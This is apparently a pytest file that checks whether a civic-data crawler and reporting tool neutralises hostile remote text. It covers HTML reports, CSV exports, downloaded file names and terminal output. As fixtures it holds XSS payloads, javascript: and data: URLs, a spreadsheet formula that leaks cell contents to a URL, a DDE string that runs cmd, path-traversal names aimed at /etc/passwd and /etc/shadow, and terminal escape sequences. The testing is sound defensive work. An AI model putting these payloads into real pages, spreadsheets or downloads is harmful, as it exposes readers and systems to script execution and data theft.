"""Fault: remote text turned against the people who read inclusio's outputs.

Titles, quotes, body names and URLs come from municipal pages anybody can edit. The HTML report
and ``compare --format html`` must show them as text (no script runs in a real Chromium, no
``javascript:``/``data:`` link), and every CSV output must keep a spreadsheet from running a
cell as a formula. The hostile warehouse is built through the real loader and linker.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess
import threading
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from inclusio.cli import main
from models.records import Claim, Document, FetchRecord, Source
from warehouse.db import connect
from warehouse.linking import link_all
from warehouse.load import load_documents, load_fetches, load_sources
from warehouse.report import page_name

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="headless Chromium not installed (Debian: apt-get install chromium)"
)

CUP = "J51H17000110006"
# Each payload, if it ever ran, leaves a marker: the page title becomes PWNED or an element
# with id "pwned" appears.
SCRIPT = "<script>document.title='PWNED'</script>"
ONERROR = ("<img src=x onerror=\"document.body.appendChild("
           "document.createElement('b')).id='pwned'\">")
BREAKOUT = "\"'><svg onload=\"document.title='PWNED'\">"
JS_URL = "javascript:document.title='PWNED'"
DATA_URL = "data:text/html,<script>parent.document.title='PWNED'</script>"
FORMULA = "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"clic\")"


def _doc(sha: str, url: str, title: str, lines: list[str], facts: list[tuple]) -> dict:
    """A loader item whose claims quote the text exactly (``facts``: kind, quote, value, role)."""
    text = "\n".join(lines)
    claims = []
    for kind, quote, value, role in facts:
        start = text.index(quote)
        claims.append(Claim(kind=kind, value=value, text=quote, start=start,
                            end=start + len(quote), extractor=f"{kind}s@test", role=role,
                            currency="EUR" if kind == "amount" else None))
    return {"sha256": sha, "url": url, "source_id": "ostile", "nlp_model": "blank:it",
            "document": Document(text=text, title=title, media_type="text/html", parser="test"),
            "claims": claims, "parsed_at": datetime(2026, 1, 2),
            "extracted_at": datetime(2026, 1, 2)}


def build_hostile_warehouse(path: Path) -> None:
    """Three pages about one CUP: two with hostile URLs, titles, quotes and body names."""
    docs = [
        _doc("a" * 64, JS_URL, f"Progetto {SCRIPT}{ONERROR}", [
            f"Progetto PON Inclusione {SCRIPT} CUP {CUP}.",
            f"Capofila: Comune di Test {BREAKOUT}.",
            f"Importo assegnato euro 100.000,00 {ONERROR} per i servizi.",
            f"Nota: {FORMULA}",
        ], [("cup", CUP, CUP, None),
            ("organisation", f"Comune di Test {BREAKOUT}", f"Comune di Test {BREAKOUT}", "lead"),
            ("amount", f"euro 100.000,00 {ONERROR}", 100000.0, "allocated"),
            ("programme", FORMULA, FORMULA, None)]),
        _doc("b" * 64, DATA_URL, f"Scheda {BREAKOUT}", [
            f"Scheda del progetto CUP {CUP}.",
            "Importo assegnato euro 120.000,00 -",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ], [("cup", CUP, CUP, None),
            ("amount", "euro 120.000,00 -", -120000.0, "allocated"),
            ("organisation", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "partner")]),
        _doc("c" * 64, "https://www.comune.test.it/progetto", "Pagina ufficiale", [
            f"Pagina ufficiale del progetto CUP {CUP}.",
            "Importo assegnato euro 100.000,00.",
        ], [("cup", CUP, CUP, None), ("amount", "euro 100.000,00", 100000.0, "allocated")]),
    ]
    fetches = [
        FetchRecord(fetch_id=f"f{n}", run_id="run-ostile", source_id="ostile", url=d["url"],
                    fetched_at=datetime(2026, 1, 2, 10, n), outcome="stored", status=200,
                    content_type="text/html", sha256=d["sha256"], n_bytes=10)
        for n, d in enumerate(docs)
    ]
    with connect(path) as con:
        load_sources(con, [Source(source_id="ostile", entity=f"Ente {SCRIPT}",
                                  start_urls=["https://www.comune.test.it/"],
                                  allowed_hosts=["www.comune.test.it"])])
        load_fetches(con, fetches)
        assert load_documents(con, docs, run_id="run-ostile") == len(docs)
        link_all(con)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "inclusio.duckdb"
    build_hostile_warehouse(path)
    return path


@pytest.fixture(scope="module")
def html_outputs(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The HTML files a reader opens: the report's index and project page, compare's page."""
    out = tmp_path_factory.mktemp("html")
    assert main(["report", str(out / "report"), "--warehouse", str(hostile)]) == 0
    assert main(["compare", "--cup", CUP, "--format", "html", "-o", str(out / "compare.html"),
                 "--warehouse", str(hostile)]) == 0
    return {"report index": out / "report" / "index.html",
            "report project page": out / "report" / "projects" / page_name(CUP),
            "compare --format html": out / "compare.html"}


# Runs after the page has loaded and its images have failed: clicks every link whose URL is
# not http(s)/file (which is how a javascript: link would run), then reports what it saw.
PROBE = """<script>
window.addEventListener('load', function () {
  var links = Array.prototype.slice.call(document.querySelectorAll('a[href]'));
  setTimeout(function () {
    links.forEach(function (a) {
      if (['http:', 'https:', 'file:'].indexOf(a.protocol) < 0) { a.click(); }
    });
    setTimeout(function () {
      var handlers = Array.prototype.filter.call(document.querySelectorAll('*'), function (e) {
        return Array.prototype.some.call(e.attributes, function (at) {
          return at.name.indexOf('on') === 0; });
      }).length;
      var out = document.createElement('pre');
      out.id = 'probe';
      out.textContent = JSON.stringify({
        title: document.title, pwned: !!document.getElementById('pwned'),
        protocols: links.map(function (a) { return a.protocol; }),
        scripts: document.scripts.length, handlers: handlers,
        text: document.body.innerText});
      document.body.appendChild(out);
    }, 300);
  }, 300);
});
</script>"""


def browse(page: Path, profile: Path) -> dict:
    """Load ``page`` (plus the probe) in headless Chromium; return what the probe saw.

    The page's Content-Security-Policy is taken out first: it would stop the probe, and the
    escaping must keep hostile text inert on its own (the policy is tested in test_report).
    """
    probed = page.with_name("_probe_" + page.name)
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n?', "",
                  page.read_text(encoding="utf-8"))
    probed.write_text(text.replace("</body>", PROBE + "</body>"), encoding="utf-8")
    try:
        result = subprocess.run(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             "--no-first-run", f"--user-data-dir={profile}", "--virtual-time-budget=3000",
             "--dump-dom", probed.as_uri()],
            capture_output=True, text=True, timeout=60, check=True,
        )
    finally:
        probed.unlink()
    m = re.search(r'<pre id="probe">(.+?)</pre>', result.stdout, re.S)
    assert m, f"the probe did not run; chromium said: {result.stderr[-500:]}"
    return json.loads(html.unescape(m.group(1)))


@needs_chromium
@pytest.mark.parametrize("output", ["report index", "report project page",
                                    "compare --format html"])
def test_hostile_titles_quotes_and_urls_run_no_script_in_chromium(
    output: str, html_outputs: dict[str, Path], tmp_path: Path
) -> None:
    seen = browse(html_outputs[output], tmp_path / "profile")
    assert seen["title"] != "PWNED", "a script from page text set the title"
    assert not seen["pwned"], "an onerror/onload handler from page text ran"
    assert seen["scripts"] == 1, "only the test's own probe may be a script"
    assert seen["handlers"] == 0, "an on* attribute from page text reached the DOM"
    assert set(seen["protocols"]) <= {"http:", "https:", "file:"}
    if output != "report index":
        # The reader sees the hostile text as written, and the bad URLs as plain text.
        assert SCRIPT in seen["text"] and ONERROR in seen["text"]
        assert JS_URL in seen["text"] and DATA_URL in seen["text"]
        assert "https:" in seen["protocols"]  # the real page is still a link


@pytest.mark.parametrize("output", ["report project page", "compare --format html"])
def test_javascript_and_data_urls_are_never_links(output: str,
                                                  html_outputs: dict[str, Path]) -> None:
    page = html_outputs[output].read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(h.startswith(("https://", "../", "#")) for h in hrefs), hrefs
    assert 'href="https://www.comune.test.it/progetto"' in page
    assert "<script" not in page and "onerror=" not in page.replace("onerror=&quot;", "")


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x", "https:/no-host",
    "https://ok.example/x\" onmouseover=\"alert(1)",
])
def test_link_to_a_non_http_url_is_refused(url: str) -> None:
    from warehouse.report import safe_href

    assert safe_href(url) is None


@pytest.mark.parametrize("url", ["https://www.comune.test.it/a?b=1&c=2", "HTTP://X.IT/"])
def test_link_to_an_http_url_is_kept(url: str) -> None:
    from warehouse.report import safe_href

    assert safe_href(url) == url


# ---------------------------------------------------------------- CSV formula injection

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(cell: str) -> bool:
    return cell.startswith(DANGEROUS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?",
                                                           cell)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_csv_neutralises_formula_cells(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "export"
    assert main(["export", "--format", "csv", str(out), "--warehouse", str(hostile)]) == 0
    claims = _rows((out / "claims.csv").read_text(encoding="utf-8"))
    header, body = claims[0], claims[1:]
    for name in ("documents.csv", "claims.csv", "projects.csv", "fetches.csv"):
        for row in _rows((out / name).read_text(encoding="utf-8")):
            assert not any(_dangerous(c) for c in row), (name, row)
    values = [r[header.index("value")] for r in body]
    assert "'" + FORMULA in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    # value_num is a DOUBLE column: a negative amount is written as a number, unquoted.
    assert "-120000.0" in [r[header.index("value_num")] for r in body]
    # A text cell holding just a number is not a formula either.
    assert "-120000.0" in values


def test_query_csv_neutralises_formula_cells(hostile: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    sql = ("SELECT value, value_num, quote FROM claims WHERE kind IN ('programme', 'amount')"
           " ORDER BY value_num NULLS FIRST")
    assert main(["query", sql, "--format", "csv", "--warehouse", str(hostile)]) == 0
    rows = _rows(capsys.readouterr().out)
    assert not any(_dangerous(c) for r in rows for c in r), rows
    assert ["'" + FORMULA, "", "'" + FORMULA] in rows
    assert "-120000.0" in [r[1] for r in rows]


def test_compare_csv_neutralises_formula_cells(hostile: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["compare", "--cup", CUP, "--format", "csv", "--warehouse", str(hostile)]) == 0
    rows = _rows(capsys.readouterr().out)
    assert not any(_dangerous(c) for r in rows for c in r), rows
    header = rows[0]
    assert "'" + FORMULA in [r[header.index("quote")] for r in rows[1:]]
    assert "'euro 120.000,00 -" not in [r[header.index("quote")] for r in rows[1:]]  # no lead


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+39 055 123", "'+39 055 123"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-3", "1e-3"),
    ("Comune di Massa", "Comune di Massa"), ("", ""),
], ids=["equals formula", "plus phone number", "minus text", "at function", "leading tab",
        "leading CR", "negative number text kept", "signed number text kept",
        "exponent number kept", "plain text kept", "empty kept"])
def test_csv_cell_rule(text: str, expected: str) -> None:
    from warehouse.csvsafe import cell

    assert cell(text) == expected
    assert cell(-5) == -5 and cell(None) is None


# ---------------------------------------------------------------- files named from remote input

HOSTILE_NAMES = {
    "dot-dot": 'attachment; filename="../../etc/passwd"',
    "dot-dot encoded": "attachment; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Finclusio.pdf",
    "absolute": 'attachment; filename="/etc/shadow.pdf"',
    "windows separators": 'attachment; filename="..\\\\..\\\\Windows\\\\System32\\\\evil.pdf"',
    "windows drive": 'attachment; filename="C:evil.pdf"',
    "NUL byte": "attachment; filename*=UTF-8''evil.pdf%00.sh",
    "newline": "attachment; filename*=UTF-8''evil%0A.pdf",
    "only dots": 'attachment; filename=".."',
}


def _bare_name(name: str | None) -> bool:
    """A file name that, joined to any folder, stays in that folder."""
    return name is None or (
        name not in ("", ".", "..") and not name.startswith(".")
        and not any(ch in name for ch in "/\\:") and all(ch >= " " for ch in name)
    )


@pytest.mark.parametrize("header", list(HOSTILE_NAMES.values()), ids=list(HOSTILE_NAMES))
def test_content_disposition_name_is_a_bare_file_name(header: str) -> None:
    from crawl.urls import disposition_filename

    name = disposition_filename(header)
    assert _bare_name(name), repr(name)


@pytest.mark.parametrize("sha", ["../../etc/passwd", "/etc/passwd", "..\\..\\win.ini",
                                 "a" * 63 + "\x00", "a" * 64 + "\n", "A" * 64, ""],
                         ids=["dot-dot", "absolute", "windows separators", "NUL byte",
                              "trailing newline", "uppercase", "empty"])
def test_stores_refuse_a_key_that_is_not_a_sha256(sha: str, tmp_path: Path) -> None:
    from crawl.rawstore import RawStore
    from docstore.files import DocStore

    docs = DocStore(tmp_path / "parsed", tmp_path / "extracted")
    for make_path in (RawStore(tmp_path / "raw").path, docs.parsed_path, docs.extracted_path):
        with pytest.raises(ValueError):
            make_path(sha)
    with pytest.raises(ValueError):
        docs.put_parse_error(sha, "x", {})
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def _serve(routes: dict[str, tuple[dict[str, str], bytes]]) -> tuple[ThreadingHTTPServer, str]:
    """A site on 127.0.0.1 answering ``routes`` (path with query → headers, body), else 404."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 - http.server naming
            headers, body = routes.get(self.path, ({}, b""))
            self.send_response(200 if self.path in routes else 404)
            for k, v in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def test_crawl_of_hostile_urls_and_names_writes_only_under_data(tmp_path: Path) -> None:
    from flows.stages import Workspace, bodies, fetch_source, parse_batch

    pdf = b"%PDF-1.4\n%hostile\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    routes = {f"/scarica?id={n}": ({"Content-Type": "application/octet-stream",
                                    "Content-Disposition": header}, pdf + str(n).encode())
              for n, header in enumerate(HOSTILE_NAMES.values())}
    hrefs = [*routes, "../../../../etc/passwd.pdf", "/%2e%2e/%2e%2e/etc/hosts.pdf",
             "/..%5c..%5cwindows%5cwin.ini.pdf", "/atti/%00evil.pdf", "file:///etc/passwd"]
    links = "".join(f'<a href="{html.escape(h)}">scarica determina progetto PON</a>'
                    for h in hrefs)
    routes["/"] = ({}, f"<html><body><h1>Progetto PON Inclusione</h1>{links}</body></html>"
                   .encode())
    server, base = _serve(routes)
    outside = tmp_path / "etc"
    outside.mkdir()
    project = tmp_path / "project"
    try:
        ws = Workspace.at(project)
        source = Source(source_id="ostile", entity="Comune Ostile", start_urls=[base + "/"],
                        allowed_hosts=["127.0.0.1"], allow_private=True, max_depth=2,
                        max_pages=50, timeout_seconds=5.0)
        records = fetch_source(ws, source, run_id="run-ostile")
        parse_batch(ws, bodies(records))
    finally:
        server.shutdown()
        server.server_close()

    stored = [r for r in records if r.outcome == "stored"]
    assert len(stored) >= len(HOSTILE_NAMES)  # the hostile downloads were really fetched
    assert all(_bare_name(r.filename) for r in records), [r.filename for r in records]
    assert {r.filename for r in stored} >= {"passwd", "shadow.pdf", "evil.pdf"}
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(p.is_relative_to(project / "data") for p in written), written
    assert list(outside.iterdir()) == []
    for p in written:  # every file is named by a hash or by inclusio itself
        assert re.fullmatch(r"[0-9a-f]{64}(\.json)?|[0-9a-f]{20}\.json|fetch-log\.jsonl",
                            p.name), p


# ---------------------------------------------------------------- terminal escapes

ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[8mhidden\u202eevil"


@pytest.fixture(scope="module")
def escaping(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose page title and quote hold terminal escape sequences."""
    path = tmp_path_factory.mktemp("escapes") / "inclusio.duckdb"
    item = _doc("d" * 64, "https://www.comune.test.it/esc", f"Titolo {ESCAPES}", [
        f"Progetto CUP {CUP}.", f"Importo assegnato euro 5.000,00 {ESCAPES}.",
    ], [("cup", CUP, CUP, None), ("amount", f"euro 5.000,00 {ESCAPES}", 5000.0, "allocated")])
    with connect(path) as con:
        load_documents(con, [item])
        link_all(con)
    return path


@pytest.mark.parametrize("argv", [
    ["query", "SELECT title, text FROM documents"],
    ["compare", "--cup", CUP],
], ids=["query table", "compare table"])
def test_terminal_escapes_in_page_text_are_not_printed(
    argv: list[str], escaping: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*argv, "--warehouse", str(escaping)]) == 0
    out = capsys.readouterr().out
    assert "Titolo" in out or "euro 5.000,00" in out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\ufffd]0;PWNED\ufffd" in out  # shown, defused
